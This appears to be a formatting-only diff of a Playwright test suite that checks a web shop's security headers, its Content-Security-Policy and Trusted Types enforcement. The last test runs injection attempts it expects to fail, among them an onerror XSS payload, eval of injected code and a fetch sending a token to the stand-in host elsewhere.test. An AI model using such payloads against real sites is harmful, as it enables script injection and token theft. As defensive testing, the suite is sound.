@@ -24,7 +24,13 @@ afterAll(async () => {
   await market.close()
 })
 
-const directives = (csp: string): Map<string, string[]> => new Map(csp.split(';').map((d) => d.trim().split(/\s+/)).map(([name = '', ...values]) => [name, values]))
+const directives = (csp: string): Map<string, string[]> =>
+  new Map(
+    csp
+      .split(';')
+      .map((d) => d.trim().split(/\s+/))
+      .map(([name = '', ...values]) => [name, values]),
+  )
 
 describe('the built page', () => {
   it('is served with headers that allow it what it needs and nothing more', async () => {
@@ -35,16 +41,29 @@ describe('the built page', () => {
       expect(csp.get('default-src'), path).toEqual(["'self'"])
       expect(csp.get('script-src'), path).toEqual(["'self'"])
       expect(csp.get('style-src'), path).toEqual(["'self'"])
-      for (const name of ['object-src', 'base-uri', 'frame-ancestors']) expect(csp.get(name), `${path} ${name}`).toEqual(["'none'"])
+      for (const name of ['object-src', 'base-uri', 'frame-ancestors'])
+        expect(csp.get(name), `${path} ${name}`).toEqual(["'none'"])
       expect(csp.get('require-trusted-types-for'), path).toEqual(["'script'"])
       expect(headers.get('Content-Security-Policy'), path).not.toMatch(/unsafe|\*|https?:|nonce|sha256/)
-      const wanted = { 'X-Content-Type-Options': 'nosniff', 'Referrer-Policy': 'same-origin', 'Cross-Origin-Opener-Policy': 'same-origin', 'Cross-Origin-Resource-Policy': 'same-origin' }
+      const wanted = {
+        'X-Content-Type-Options': 'nosniff',
+        'Referrer-Policy': 'same-origin',
+        'Cross-Origin-Opener-Policy': 'same-origin',
+        'Cross-Origin-Resource-Policy': 'same-origin',
+      }
       for (const [name, value] of Object.entries(wanted)) expect(headers.get(name), `${path} ${name}`).toBe(value)
       expect(headers.get('Strict-Transport-Security'), path).toMatch(/^max-age=\d{8}/)
       expect(headers.get('Permissions-Policy'), path).toMatch(/camera=\(\).*microphone=\(\).*geolocation=\(\)/)
       expect(headers.get('Set-Cookie'), path).toBeNull()
       report.push(`${path} ${status}`)
-      for (const name of ['Content-Security-Policy', ...Object.keys(wanted), 'Strict-Transport-Security', 'Permissions-Policy', 'Cache-Control']) report.push(`  ${name}: ${headers.get(name)}`)
+      for (const name of [
+        'Content-Security-Policy',
+        ...Object.keys(wanted),
+        'Strict-Transport-Security',
+        'Permissions-Policy',
+        'Cache-Control',
+      ])
+        report.push(`  ${name}: ${headers.get(name)}`)
     }
     await mkdir(REPORTS, { recursive: true })
     await writeFile(`${REPORTS}/headers.txt`, `${report.join('\n')}\n`)
@@ -52,9 +71,14 @@ describe('the built page', () => {
 
   it('has no script, style or handler in its HTML, nothing from elsewhere, and exactly the policies that its header names', async () => {
     const html = await (await fetch(market.url)).text()
-    expect(html).not.toMatch(/<script(?![^>]*\ssrc=)[^>]*>|<style|\sstyle=|\son\w+=|javascript:|<base|<iframe|<object|http-equiv/i)
+    expect(html).not.toMatch(
+      /<script(?![^>]*\ssrc=)[^>]*>|<style|\sstyle=|\son\w+=|javascript:|<base|<iframe|<object|http-equiv/i,
+    )
     for (const [, url] of html.matchAll(/(?:src|href)="([^"]*)"/g)) expect(url).toMatch(/^\/[^/]/)
-    const scripts = [...(await readdir(`${DIST}assets`)).filter((f) => f.endsWith('.js')).map((f) => `assets/${f}`), 'sw.js']
+    const scripts = [
+      ...(await readdir(`${DIST}assets`)).filter((f) => f.endsWith('.js')).map((f) => `assets/${f}`),
+      'sw.js',
+    ]
     const made = new Set<string>()
     for (const file of scripts) {
       const code = await readFile(DIST + file, 'utf8')
@@ -78,18 +102,35 @@ describe('the built page', () => {
     await page.addInitScript(() => {
       const broken: string[] = []
       Object.assign(globalThis, { broken })
-      document.addEventListener('securitypolicyviolation', (e) => { broken.push(`${e.violatedDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}`) })
+      document.addEventListener('securitypolicyviolation', (e) => {
+        broken.push(`${e.violatedDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}`)
+      })
     })
     await logIn(page, market.url, person)
     await shellKept(page)
     await addToCart(page, market.url, product!.id)
-    for (const path of ['/', '/product', '/shop', '/mine', '/order', '/address', '/insertAddress', '/setting', '/search', '/collect', '/lang', `/store/${product!.storeId}`]) {
+    for (const path of [
+      '/',
+      '/product',
+      '/shop',
+      '/mine',
+      '/order',
+      '/address',
+      '/insertAddress',
+      '/setting',
+      '/search',
+      '/collect',
+      '/lang',
+      `/store/${product!.storeId}`,
+    ]) {
       await open(page, market.url, path)
       expect(await page.evaluate(() => (globalThis as unknown as { broken: string[] }).broken), path).toEqual([])
     }
     expect(browser.errors.filter((e) => /Content.Security|Trusted/i.test(e))).toEqual([])
     expect(tokens.size).toBeGreaterThan(0)
-    const kept = await page.evaluate(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie, location.href, history.state]))
+    const kept = await page.evaluate(() =>
+      JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie, location.href, history.state]),
+    )
     for (const token of tokens) {
       expect(urls.filter((url) => url.includes(token))).toEqual([])
       expect(market.log()).not.toContain(token)
@@ -103,33 +144,63 @@ describe('the built page', () => {
     const page = browser.page()
     await open(page, market.url, '/login')
     // In a turn of its own: what the debugger runs itself is allowed anything.
-    const done = await page.evaluate(() => new Promise<Record<string, string>>((resolve) => {
-      setTimeout(() => {
-        const tried: Record<string, string> = {}
-        const tell = (name: string, act: () => unknown): void => {
-          try {
-            act()
-            tried[name] = 'done'
-          } catch (error) {
-            tried[name] = (error as Error).name
-          }
-        }
-        const text = 'globalThis.intruded = 1'
-        tell('eval', () => (Reflect.get(globalThis, 'eval') as (code: string) => unknown)(text))
-        tell('Function', () => new Function(text)())
-        tell('innerHTML', () => { document.createElement('div').innerHTML = '<img src=x onerror="globalThis.intruded = 1">' })
-        tell('script.text', () => { document.createElement('script').text = text })
-        tell('script.src', () => { document.createElement('script').src = '/assets/x.js' })
-        tell('worker', () => new Worker('/assets/x.js'))
-        tell('policy', () => (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }).trustedTypes.createPolicy('default', { createHTML: (s: string) => s }))
-        const script = document.createElement('script')
-        script.append(text)
-        document.head.append(script)
-        void fetch('https://elsewhere.test/?token=x').then(() => 'done', (error: unknown) => (error as Error).name).then((fetched) => {
-          setTimeout(() => { resolve({ ...tried, fetch: fetched, inline: String('intruded' in globalThis) }) }, 0)
-        })
-      }, 0)
-    }))
-    expect(done).toEqual({ eval: 'EvalError', Function: 'EvalError', innerHTML: 'TypeError', 'script.text': 'TypeError', 'script.src': 'TypeError', worker: 'TypeError', policy: 'TypeError', fetch: 'TypeError', inline: 'false' })
+    const done = await page.evaluate(
+      () =>
+        new Promise<Record<string, string>>((resolve) => {
+          setTimeout(() => {
+            const tried: Record<string, string> = {}
+            const tell = (name: string, act: () => unknown): void => {
+              try {
+                act()
+                tried[name] = 'done'
+              } catch (error) {
+                tried[name] = (error as Error).name
+              }
+            }
+            const text = 'globalThis.intruded = 1'
+            tell('eval', () => (Reflect.get(globalThis, 'eval') as (code: string) => unknown)(text))
+            tell('Function', () => new Function(text)())
+            tell('innerHTML', () => {
+              document.createElement('div').innerHTML = '<img src=x onerror="globalThis.intruded = 1">'
+            })
+            tell('script.text', () => {
+              document.createElement('script').text = text
+            })
+            tell('script.src', () => {
+              document.createElement('script').src = '/assets/x.js'
+            })
+            tell('worker', () => new Worker('/assets/x.js'))
+            tell('policy', () =>
+              (
+                globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
+              ).trustedTypes.createPolicy('default', { createHTML: (s: string) => s }),
+            )
+            const script = document.createElement('script')
+            script.append(text)
+            document.head.append(script)
+            void fetch('https://elsewhere.test/?token=x')
+              .then(
+                () => 'done',
+                (error: unknown) => (error as Error).name,
+              )
+              .then((fetched) => {
+                setTimeout(() => {
+                  resolve({ ...tried, fetch: fetched, inline: String('intruded' in globalThis) })
+                }, 0)
+              })
+          }, 0)
+        }),
+    )
+    expect(done).toEqual({
+      eval: 'EvalError',
+      Function: 'EvalError',
+      innerHTML: 'TypeError',
+      'script.text': 'TypeError',
+      'script.src': 'TypeError',
+      worker: 'TypeError',
+      policy: 'TypeError',
+      fetch: 'TypeError',
+      inline: 'false',
+    })
   })
 })
